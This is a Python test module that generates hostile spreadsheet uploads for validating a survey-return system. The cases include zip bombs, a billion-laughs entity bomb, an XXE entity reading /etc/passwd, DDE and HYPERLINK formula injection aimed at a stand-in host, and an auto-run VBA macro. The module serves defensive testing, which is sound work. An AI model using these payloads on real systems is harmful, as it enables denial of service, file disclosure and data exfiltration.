"""A corpus of broken, odd and hostile returns, generated from real issued templates.

Nothing here is a committed binary: every file is made at test time from the
templates a master has just issued, mostly by editing the parts inside the zip
the way a spreadsheet program (or an attacker) would write them. Each case
says what must happen to it: rejected with one of some error codes, or
accepted with some warnings (and, for accepted ones, what the master must
then hold). Used by tests/test_hostile_corpus.py and benchmarks/bench_reliability.py.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import random
import re
import shutil
import string
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import openpyxl

from envplan.excel.cfb_writer import write_compound_file
from envplan.plan.model import Plan
from envplan.survey.template_fill import fill_template, input_cells
from envplan.survey.template_layout import IDENTITY_SHEET, INDICATOR_SHEET

MB = 1024 * 1024
DEPT = "環境課"
NUM = ("value", "S01", 2021, "actual")
NOTE = ("value", "S01", 2021, "note")
CONTACT = ("department", DEPT, "contact")
COMMENT = ("project", "P1", 2022, "comment")
STATUS = ("project", "P1", 2022, "status")
BUDGET_DEPT = "地球環境推進室"
BUDGET = ("budget", "41303000", 2022, "予算")
BASE_ANSWERS: dict[tuple[Any, ...], Any] = {NUM: 1390, NOTE: "速報値", STATUS: "予定どおり", COMMENT: "協定を締結", CONTACT: "環境 太郎"}

Outcome = Literal["rejected", "accepted"]
Check = Callable[[Plan, Path], None]


@dataclass
class Case:
    name: str
    what: str  # in Japanese, for the benchmark table
    file_name: str
    expect: Outcome
    codes: frozenset[str]  # rejected: one of these errors; accepted: all of these warnings
    attributable: bool  # passes the identity check (so it needs an inbox of its own)
    data: bytes = b""
    special: Literal["", "fifo", "devzero", "sparse"] = ""
    check: Check | None = None

    def write(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / self.file_name
        if self.special == "fifo":
            os.mkfifo(path)
        elif self.special == "devzero":
            path.symlink_to("/dev/zero")
        elif self.special == "sparse":
            with open(path, "wb") as f:
                f.write(b"PK\x03\x04")
                f.truncate(21 * MB)  # larger than the limit, without using the disk
        else:
            path.write_bytes(self.data)
        return path


@dataclass
class Corpus:
    cases: list[Case] = field(default_factory=list)

    def add(self, name: str, what: str, expect: Outcome, codes: set[str] | str, *, data: bytes = b"", file_name: str = "", attributable: bool = False, special: str = "", check: Check | None = None) -> None:
        code_set = frozenset({codes} if isinstance(codes, str) else codes)
        self.cases.append(Case(name, what, file_name or f"{name}.xlsx", expect, code_set, attributable, data, special, check))  # type: ignore[arg-type]


# --- zip surgery ----------------------------------------------------------------------------


def rewrite_zip(data: bytes, changes: dict[str, Callable[[bytes], bytes] | bytes | None], *, add: dict[str, bytes] | None = None) -> bytes:
    """A copy of the zip with some parts changed (fn or bytes), removed (None) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            content = zin.read(info.filename)
            if info.filename in changes:
                change = changes[info.filename]
                if change is None:
                    continue
                content = change(content) if callable(change) else change
            zout.writestr(info.filename, content)
        for name, content in (add or {}).items():
            zout.writestr(name, content)
    return out.getvalue()


def sheet_part(data: bytes, sheet: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        workbook = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', workbook)
    assert rid, sheet
    rel = re.search(rf'<Relationship [^>]*Id="{rid[1]}"[^>]*/>', rels) or re.search(rf'<Relationship [^>]*Target="[^"]+"[^>]*Id="{rid[1]}"', rels)
    assert rel
    target = re.search(r'Target="([^"]+)"', rel[0])[1]  # type: ignore[index]
    return target.lstrip("/") if target.startswith("/") else "xl/" + target


def replace_cell(data: bytes, sheet: str, ref: str, cell_xml: Callable[[str], str]) -> bytes:
    """Replace the <c r="ref"> element of a sheet; cell_xml gets its style attribute text."""
    part = sheet_part(data, sheet)

    def change(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        pattern = re.compile(rf'<c r="{ref}"(?P<attrs>[^>]*?)(/>|>.*?</c>)', re.S)
        m = pattern.search(text)
        assert m, f"{sheet}!{ref} not in {part}"
        style = re.search(r'\ss="\d+"', m["attrs"])
        new = cell_xml(style[0] if style else "")
        return (text[: m.start()] + new + text[m.end():]).encode("utf-8")

    return rewrite_zip(data, {part: change})


def inline(ref: str, text: str) -> Callable[[str], str]:
    return lambda s: f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def workbook_edit(data: bytes, fn: Callable[[str], str]) -> bytes:
    return rewrite_zip(data, {"xl/workbook.xml": lambda b: fn(b.decode()).encode()})


def raw_zip(entries: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one case
        with zipfile.ZipFile(out, "w", method) as z:
            for name, content in entries:
                z.writestr(name, content)
    return out.getvalue()


def zip_bomb_member(base: bytes, size: int) -> bytes:
    """The workbook plus a part of `size` zero bytes (deflated to about size/1000)."""
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        with z.open("xl/media/padding.xml", "w", force_zip64=True) as f:
            block = b"\0" * MB
            for _ in range(size // MB):
                f.write(block)
    return out.getvalue()


def lying_sizes_zip(base: bytes) -> bytes:
    """A workbook whose sheet part inflates to 64 MB but declares 2 KB (local header and directory)."""
    part = "xl/worksheets/sheet2.xml"
    payload = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = payload.compress(b"<" + b" " * (64 * MB)) + payload.flush()
    crc, declared = 0x12345678, 2048
    entries: list[tuple[str, bytes, int, int, int]] = []  # name, compressed, crc, size, method
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        for info in z.infolist():
            raw = z.read(info.filename)
            if info.filename == part:
                entries.append((part, body, crc, declared, 8))
            else:
                c = zlib.compressobj(6, zlib.DEFLATED, -15)
                entries.append((info.filename, c.compress(raw) + c.flush(), zlib.crc32(raw), len(raw), 8))
    out = io.BytesIO()
    central = io.BytesIO()
    for name, comp, crc_, size, method in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, 0, 0x21, crc_, len(comp), size, len(encoded), 0) + encoded + comp)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, method, 0, 0x21, crc_, len(comp), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    cd = central.getvalue()
    start = out.tell()
    out.write(cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd), start, 0))
    return out.getvalue()


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)


# --- the corpus ----------------------------------------------------------------------------------


def build_corpus(templates: dict[str, Path], work: Path, *, other_plan_templates: dict[str, Path] | None = None, big_rows: int = 100_000) -> Corpus:
    """Every hostile case, made from the issued `templates` (department code → path)."""
    work.mkdir(parents=True, exist_ok=True)
    corpus = Corpus()
    tpl = templates[DEPT]
    specs = input_cells(tpl)
    base_path = fill_template(tpl, BASE_ANSWERS, work / "base.xlsx")
    base = base_path.read_bytes()

    def at(key: tuple[Any, ...]) -> tuple[str, str]:
        return specs[key].sheet, specs[key].ref

    def with_answers(name: str, answers: dict[tuple[Any, ...], Any], template: Path = tpl) -> bytes:
        return fill_template(template, {**(BASE_ANSWERS if template == tpl else {}), **answers}, work / f"{name}.xlsx").read_bytes()

    def openpyxl_edit(name: str, fn: Callable[[openpyxl.Workbook], None], src: bytes = base) -> bytes:
        wb = openpyxl.load_workbook(io.BytesIO(src))
        fn(wb)
        out = io.BytesIO()
        wb.save(out)
        return out.getvalue()

    add = corpus.add
    num_sheet, num_ref = at(NUM)
    contact_sheet, contact_ref = at(CONTACT)
    note_sheet, note_ref = at(NOTE)

    # --- not a workbook at all ------------------------------------------------------------
    add("empty_file", "0バイトのファイル", "rejected", "RETURN_TRUNCATED", data=b"")
    add("truncated_zip", "途中で切れた .xlsx", "rejected", "RETURN_TRUNCATED", data=base[: len(base) // 2])
    add("text_file", "拡張子だけ .xlsx のテキスト", "rejected", "RETURN_NOT_WORKBOOK", data="提出します\n".encode())
    add("zip_not_workbook", "ワークブックでない zip", "rejected", "RETURN_NOT_WORKBOOK", data=raw_zip([("readme.txt", b"hello"), ("data.csv", b"a,b\n1,2\n")]))
    add(
        "word_document",
        "Word 文書を .xlsx に改名",
        "rejected",
        "RETURN_NOT_WORKBOOK",
        data=raw_zip([("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'), ("word/document.xml", b"<w:document/>")]),
    )
    add(
        "ods_renamed",
        "LibreOffice の .ods を .xlsx に改名",
        "rejected",
        "RETURN_NOT_WORKBOOK",
        data=raw_zip([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<office:document-content/>")], method=zipfile.ZIP_STORED),
    )
    add("xls_renamed", ".xls（BIFF）を .xlsx に改名", "rejected", "RETURN_XLS", data=write_compound_file({"Workbook": b"\x09\x08" + b"\0" * 600}))
    add("ole_document", "Word 97-2003 文書を .xlsx に改名", "rejected", "RETURN_NOT_WORKBOOK", data=write_compound_file({"WordDocument": b"\xec\xa5" + b"\0" * 600}))
    add("encrypted", "パスワード付きのブック", "rejected", "RETURN_ENCRYPTED", data=_encrypt(base, "himitsu"))
    add("oversized", "21 MB のファイル", "rejected", "RETURN_TOO_LARGE", special="sparse")
    add("fifo", "名前付きパイプ（読むと止まる）", "rejected", "RETURN_NOT_A_FILE", special="fifo")
    add("dev_zero_link", "/dev/zero へのリンク（無限に読める）", "rejected", "RETURN_NOT_A_FILE", special="devzero")

    # --- zip bombs and archive tricks ----------------------------------------------------------
    add("zip_bomb", "展開すると 100 MB になる部品（圧縮爆弾）", "rejected", "RETURN_ZIP_BOMB", data=zip_bomb_member(base, 100 * MB))
    add("zip_bomb_lying_sizes", "大きさを偽った部品（申告 2 KB、実際 64 MB）", "rejected", {"RETURN_TRUNCATED", "RETURN_ZIP_BOMB"}, data=lying_sizes_zip(base))
    many = rewrite_zip(base, {}, add={f"customXml/item{i}.xml": b"<a/>" for i in range(1200)})
    add("zip_many_parts", "部品が 1,200 個の zip", "rejected", "RETURN_ZIP_BOMB", data=many)
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        entries = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    dup = entries + [("xl/workbook.xml", entries[[n for n, _ in entries].index("xl/workbook.xml")][1])]
    add("zip_duplicate_part", "同じ名前の部品が二つある zip", "rejected", "RETURN_ARCHIVE_UNSAFE", data=raw_zip(dup))
    bz = raw_zip(entries, method=zipfile.ZIP_BZIP2)
    add("zip_bzip2", "Excel が使わない圧縮方式（bzip2）", "rejected", "RETURN_ARCHIVE_UNSAFE", data=bz)

    # --- XML tricks -------------------------------------------------------------------------------
    part = sheet_part(base, contact_sheet)
    laughs = rewrite_zip(base, {part: lambda b: BILLION_LAUGHS.encode() + re.sub(rb"^<\?xml[^>]*\?>", b"", b).replace(b"</sheetData>", b"</sheetData>", 1)})
    laughs = replace_cell(laughs, contact_sheet, contact_ref, lambda s: f'<c r="{contact_ref}"{s} t="inlineStr"><is><t>&lol9;</t></is></c>')
    add("billion_laughs", "実体展開爆弾（billion laughs）", "rejected", "RETURN_XML_ENTITIES", data=laughs)
    xxe = rewrite_zip(base, {"docProps/core.xml": lambda b: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + re.sub(rb"^<\?xml[^>]*\?>", b"", b).replace(b"</cp:coreProperties>", b"<dc:title>&xxe;</dc:title></cp:coreProperties>")})
    add("xxe_external_entity", "外部実体参照（XXE）", "rejected", "RETURN_XML_ENTITIES", data=xxe)
    add("broken_xml", "生の制御文字で壊れた XML", "rejected", "RETURN_UNREADABLE", data=replace_cell(base, contact_sheet, contact_ref, inline(contact_ref, "環境\x01太郎")))

    # --- limits ----------------------------------------------------------------------------------
    add("rows_100000", f"{big_rows:,}行を貼り付けた返送", "rejected", "RETURN_TOO_MANY_ROWS", data=with_many_rows(base, INDICATOR_SHEET, big_rows))
    far = rewrite_zip(base, {sheet_part(base, INDICATOR_SHEET): lambda b: b.replace(b"</sheetData>", b'<row r="30"><c r="ZZ30"><v>1</v></c></row></sheetData>')})
    add("far_column", "702列目（ZZ）に値", "rejected", "RETURN_TOO_MANY_COLUMNS", data=far)
    big = "".join(random.Random(7).choices(string.ascii_letters + string.digits, k=MB))  # 1 MB that does not compress away
    add("string_1mb_inline", "1 MB の文字列（セル内）", "rejected", "RETURN_STRING_TOO_LONG", data=replace_cell(base, contact_sheet, contact_ref, inline(contact_ref, big)))
    add("string_1mb_shared", "1 MB の文字列（共有文字列）", "rejected", "RETURN_STRING_TOO_LONG", data=with_shared_string(base, note_sheet, note_ref, big))

    # --- workbooks that are not ours, or not as issued ---------------------------------------------
    def drop_identity(wb: openpyxl.Workbook) -> None:
        for ws in wb.worksheets:
            ws.sheet_state = "visible"
        del wb[IDENTITY_SHEET]

    plain = openpyxl.Workbook()
    plain.active.append(["指標", "2022年度"])
    plain.active.append(["CO2排出量", 1390])
    buf = io.BytesIO()
    plain.save(buf)
    add("other_product", "ほかのシステムが作ったブック", "rejected", "RETURN_NOT_OURS", data=buf.getvalue())
    many_sheets = openpyxl.Workbook()
    for i in range(150):
        many_sheets.create_sheet(f"S{i}")
    buf = io.BytesIO()
    many_sheets.save(buf)
    add("many_sheets", "シートが 151 枚のブック", "rejected", "RETURN_TOO_MANY_SHEETS", data=buf.getvalue())
    add("identity_deleted", "様式情報シートを削除", "rejected", "RETURN_NOT_OURS", data=openpyxl_edit("iddel", drop_identity))
    if other_plan_templates:
        for name, path in other_plan_templates.items():
            code = "RETURN_OTHER_KEY" if name == "other_key" else "RETURN_OTHER_PLAN"
            what = "別の計画の様式（別の署名鍵）" if name == "other_key" else "別の計画の様式（同じ署名鍵）"
            add(f"other_plan_{name}", what, "rejected", code, data=path.read_bytes(), attributable=code == "RETURN_OTHER_PLAN")
    other_dept = next(d for d in templates if d != DEPT)
    add("signature_copied", f"{other_dept}の様式の署名を写した", "rejected", "RETURN_SIGNATURE_INVALID", data=copy_signature(base, templates[other_dept].read_bytes()))
    add(
        "identity_sheet_copied",
        f"{other_dept}の様式情報シートを丸ごと写した",
        "rejected",
        {"RETURN_LOCKED_CHANGED", "RETURN_SHEET_MISSING", "RETURN_UNEXPECTED_CELL", "RETURN_FOREIGN_ROW"},
        data=copy_identity_sheet(base, templates[other_dept].read_bytes()),
        attributable=True,
    )

    def unhide_identity(wb: openpyxl.Workbook) -> None:
        ws = wb[IDENTITY_SHEET]
        ws.sheet_state = "visible"
        for row in ws.iter_rows():
            if row[0].value == "department_name":
                row[1].value = "（書き換え）"

    add("identity_unhidden_edited", "隠しシート（様式情報）を再表示して編集", "rejected", "RETURN_SIGNATURE_INVALID", data=openpyxl_edit("idvis", unhide_identity))

    def hide_edited_row(wb: openpyxl.Workbook) -> None:
        ws = wb[INDICATOR_SHEET]
        ws["B4"].value = "（改ざん）品川区のCO2排出量"
        ws.row_dimensions[4].hidden = True

    add("row_hidden_and_edited", "定義の行を編集して非表示にした", "rejected", "RETURN_LOCKED_CHANGED", data=openpyxl_edit("rowhid", hide_edited_row), attributable=True)

    def rename(wb: openpyxl.Workbook) -> None:
        wb[INDICATOR_SHEET].title = "指標（提出）"

    add("sheet_renamed", "シート名を変更", "rejected", "RETURN_SHEET_MISSING", data=openpyxl_edit("ren", rename), attributable=True)

    def delete(wb: openpyxl.Workbook) -> None:
        del wb["重点プロジェクト"]

    add("sheet_deleted", "シートを削除", "rejected", "RETURN_SHEET_MISSING", data=openpyxl_edit("del", delete), attributable=True)

    def reorder(wb: openpyxl.Workbook) -> None:
        ws = wb[contact_sheet]
        wb._sheets.remove(ws)
        wb._sheets.insert(0, ws)

    add("sheets_reordered", "シートの順番を入れ替え（害はない）", "accepted", set(), data=openpyxl_edit("reo", reorder), attributable=True, check=_expect_value(NUM, 1390))

    def merge_over_input(wb: openpyxl.Workbook) -> None:
        col = contact_ref.rstrip("0123456789")
        row = contact_ref[len(col):]
        wb[contact_sheet].merge_cells(f"A{row}:{contact_ref}")

    add("merged_over_input", "入力欄を覆うセル結合", "rejected", "RETURN_MERGED_INPUT", data=openpyxl_edit("merge", merge_over_input), attributable=True)

    # --- what is in the input cells ----------------------------------------------------------------
    add(
        "formula_with_cached_value",
        "入力欄に数式（計算結果あり）",
        "accepted",
        "RETURN_FORMULA",
        data=replace_cell(base, num_sheet, num_ref, lambda s: f'<c r="{num_ref}"{s}><f>1000+390</f><v>1390</v></c>'),
        attributable=True,
        check=_expect_value(NUM, 1390),
    )
    add(
        "formula_without_value",
        "入力欄に数式（計算結果なし）",
        "rejected",
        "RETURN_FORMULA_NO_VALUE",
        data=replace_cell(base, num_sheet, num_ref, lambda s: f'<c r="{num_ref}"{s}><f>SUM(A1:A9)*1000</f></c>'),
        attributable=True,
    )
    add(
        "error_value",
        "入力欄がエラー値（#DIV/0!）",
        "rejected",
        "RETURN_CELL_ERROR",
        data=replace_cell(base, num_sheet, num_ref, lambda s: f'<c r="{num_ref}"{s} t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
        attributable=True,
    )
    add("external_link", "他ブックを参照する数式（外部リンク）", "accepted", {"RETURN_EXTERNAL_LINK", "RETURN_FORMULA"}, data=with_external_link(base, num_sheet, num_ref), attributable=True, check=_expect_value(NUM, 1390))
    add("macros_xlsm", "マクロ入りの .xlsm", "accepted", "RETURN_MACROS", data=with_macros(base), file_name="macros_xlsm.xlsm", attributable=True, check=_expect_value(NUM, 1390))
    add(
        "control_characters",
        "制御文字（_x0001_ など）",
        "accepted",
        "TEXT_CONTROL_CHARS",
        data=replace_cell(base, contact_sheet, contact_ref, inline(contact_ref, "環境_x0001_太郎_x001F_")),
        attributable=True,
        check=_expect_value(CONTACT, "環境太郎"),
    )
    add("rtl_marks", "右から左への記号（U+202E, U+200F）", "accepted", "TEXT_BIDI_CONTROL", data=with_answers("rtl", {CONTACT: "環境\u202e郎太\u202c\u200f"}), attributable=True, check=_expect_value(CONTACT, "環境郎太"))
    emoji = "環境 太郎 🌱👨‍👩‍👧 𠮷"
    add("emoji", "絵文字・サロゲートペア", "accepted", set(), data=with_answers("emoji", {CONTACT: emoji}), attributable=True, check=_expect_value(CONTACT, emoji))
    html = '<script>alert("x")</script><b>速報値</b>'
    add("html", "HTML タグ", "accepted", "TEXT_MARKUP", data=with_answers("html", {NOTE: html}), attributable=True, check=_expect_value(NOTE, html))
    injection = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'
    add(
        "formula_injection",
        "数式インジェクション文字列（=HYPERLINK, =cmd|, @SUM）",
        "accepted",
        "TEXT_FORMULA_LIKE",
        data=replace_cell(
            replace_cell(base, note_sheet, note_ref, inline(note_ref, injection.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;"))),
            contact_sheet,
            contact_ref,
            inline(contact_ref, "=cmd|' /C calc'!A0"),
        ),
        attributable=True,
        check=_expect_texts({NOTE: injection, CONTACT: "=cmd|' /C calc'!A0"}),
    )
    add("date_in_number", "数値の欄に日付", "rejected", "NUMBER_IS_DATE", data=with_answers("date", {NUM: dt.datetime(2022, 4, 1)}), attributable=True)
    add("boolean_in_number", "数値の欄に TRUE", "rejected", "NUMBER_BOOLEAN", data=with_answers("bool", {NUM: True}), attributable=True)
    add("nan_value", "数値の欄に NaN", "rejected", "NUMBER_NOT_FINITE", data=replace_cell(base, num_sheet, num_ref, lambda s: f'<c r="{num_ref}"{s}><v>NaN</v></c>'), attributable=True)
    add("inf_value", "数値の欄に 1e309（無限大）", "rejected", "NUMBER_NOT_FINITE", data=replace_cell(base, num_sheet, num_ref, lambda s: f'<c r="{num_ref}"{s}><v>1e309</v></c>'), attributable=True)
    add("huge_digits", "400桁の数字（文字列）", "rejected", "NUMBER_NOT_FINITE", data=with_answers("digits", {NUM: "9" * 400}), attributable=True)
    add("negative_indicator", "指標の実績に負の値", "accepted", "VALUE_OUT_OF_RANGE", data=with_answers("neg", {NUM: -1390}), attributable=True, check=_expect_value(NUM, -1390))
    if BUDGET_DEPT in templates:
        add("negative_amount", "事業費に負の金額", "rejected", "NUMBER_INVALID", data=with_answers("negamt", {BUDGET: -21959}, templates[BUDGET_DEPT]), attributable=True)
    return corpus


def _encrypt(data: bytes, password: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


def with_many_rows(base: bytes, sheet: str, n: int) -> bytes:
    """`n` rows pasted below the table, written as a spreadsheet program stores them."""
    part = sheet_part(base, sheet)

    def change(xml: bytes) -> bytes:
        start = 100
        rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>S{r}</t></is></c><c r="B{r}"><v>{r}</v></c><c r="C{r}"><v>{r * 0.5}</v></c></row>' for r in range(start, start + n))
        return xml.replace(b"</sheetData>", rows.encode() + b"</sheetData>")

    return rewrite_zip(base, {part: change})


def with_shared_string(base: bytes, sheet: str, ref: str, text: str) -> bytes:
    """A shared-strings part (as Excel writes strings) holding `text`, used by one cell."""
    data = replace_cell(base, sheet, ref, lambda s: f'<c r="{ref}"{s} t="s"><v>0</v></c>')
    sst = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>{text}</t></si></sst>'.encode()
    return rewrite_zip(
        data,
        {
            "xl/_rels/workbook.xml.rels": lambda b: b.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdS1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            ),
            "[Content_Types].xml": lambda b: b.replace(
                b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
            ),
        },
        add={"xl/sharedStrings.xml": sst},
    )


def copy_signature(base: bytes, other: bytes) -> bytes:
    wb_other = openpyxl.load_workbook(io.BytesIO(other))
    signature = next(r[1].value for r in wb_other[IDENTITY_SHEET].iter_rows() if r[0].value == "signature")
    wb = openpyxl.load_workbook(io.BytesIO(base))
    for row in wb[IDENTITY_SHEET].iter_rows():
        if row[0].value == "signature":
            row[1].value = signature
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def copy_identity_sheet(base: bytes, other: bytes) -> bytes:
    """The other department's whole identity sheet part (signature valid for its own content)."""
    with zipfile.ZipFile(io.BytesIO(other)) as z:
        theirs = z.read(sheet_part(other, IDENTITY_SHEET))
    return rewrite_zip(base, {sheet_part(base, IDENTITY_SHEET): theirs})


def with_external_link(base: bytes, sheet: str, ref: str) -> bytes:
    data = replace_cell(base, sheet, ref, lambda s: f'<c r="{ref}"{s}><f>[1]集計!$B$2</f><v>1390</v></c>')
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="集計"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="2"><cell r="B2"><v>1390</v></cell></row></sheetData></sheetDataSet>'
        "</externalBook></externalLink>"
    ).encode()
    link_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        'Target="file:///\\\\fileserver\\share\\集計.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    return rewrite_zip(
        data,
        {
            "xl/workbook.xml": lambda b: b.replace(b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>'),
            "xl/_rels/workbook.xml.rels": lambda b: b.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
            ),
            "[Content_Types].xml": lambda b: b.replace(
                b"</Types>",
                b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
            ),
        },
        add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
    )


def with_macros(base: bytes) -> bytes:
    """A real VBA project (an auto-run macro that would start a program) in an .xlsm."""
    from envplan.excel.vba_project import build_vba_project, module_from_export

    source = 'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n    Shell "calc.exe"\r\nEnd Sub\r\n'
    vba = build_vba_project([module_from_export(source, "standard")], project_name="VBAProject")
    return rewrite_zip(
        base,
        {
            "[Content_Types].xml": lambda b: b.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
            ).replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
            "xl/_rels/workbook.xml.rels": lambda b: b.replace(
                b"</Relationships>", b'<Relationship Id="rIdV1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
            ),
        },
        add={"xl/vbaProject.bin": vba},
    )


def _field(plan: Plan, key: tuple[Any, ...]) -> Any:
    from envplan.workbook.fields import plan_value

    return plan_value(plan, key)


def _expect_value(key: tuple[Any, ...], value: Any) -> Check:
    def check(plan: Plan, master: Path) -> None:
        got = _field(plan, key)
        assert got == value, f"{key}: {got!r} != {value!r}"

    return check


def _expect_texts(values: dict[tuple[Any, ...], str]) -> Check:
    """The values are in the master, stored as text cells, never as formulas."""

    def check(plan: Plan, master: Path) -> None:
        for key, value in values.items():
            assert _field(plan, key) == value, key
        wb = openpyxl.load_workbook(master)
        found = [(ws.title, c.coordinate, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value in values.values()]
        assert len(found) >= len(values), found
        assert all(dtype == "s" for _, _, dtype in found), found

    return check


def other_plan_templates(master: Path, work: Path) -> dict[str, Path]:
    """A template of another plan (Kawasaki alone), issued with another key and with the same key."""
    from envplan.plan.samples import load_sample
    from envplan.survey.template_identity import key_path
    from envplan.survey.template_issue import issue_templates
    from envplan.workbook.writer import save_master

    out = {}
    for name in ("other_key", "same_key"):
        folder = work / f"other_{name}"
        folder.mkdir(parents=True, exist_ok=True)
        other = folder / "kawasaki.xlsx"
        save_master(load_sample("kawasaki"), other)
        if name == "same_key":
            shutil.copy2(key_path(master), key_path(other))
        paths = issue_templates(other, folder / "templates")
        out[name] = paths[0]
    return out
